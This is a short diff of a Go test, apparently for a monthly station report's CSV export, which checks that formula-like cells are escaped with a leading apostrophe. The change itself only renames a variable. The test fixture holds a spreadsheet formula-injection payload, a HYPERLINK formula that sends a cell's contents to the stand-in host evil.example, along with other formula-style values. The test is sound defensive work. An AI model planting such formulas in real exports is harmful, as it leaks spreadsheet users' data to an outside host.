@@ -13,10 +13,10 @@ var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?$`)
 // of stations starting with = + - @, a tab or a carriage return) is written with a leading
 // apostrophe; numbers, negative ones too, stay numbers.
 func TestCSVFormulaCells(t *testing.T) {
-	min := -2.5
+	low := -2.5
 	r := &Report{Month: "2026-11", Provinces: []Province{{Name: "@SUM(A1)", Stations: []string{"+A"}}},
 		Stations: []Station{{ID: "-WW", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Province: "\tTab",
-			Limits: []Exceedance{{Regulation: "QCVN-40:2011/B", Parameter: "ph", Period: "1h", Min: &min}}}}}
+			Limits: []Exceedance{{Regulation: "QCVN-40:2011/B", Parameter: "ph", Period: "1h", Min: &low}}}}}
 	var b strings.Builder
 	if err := r.WriteCSV(&b); err != nil {
 		t.Fatal(err)
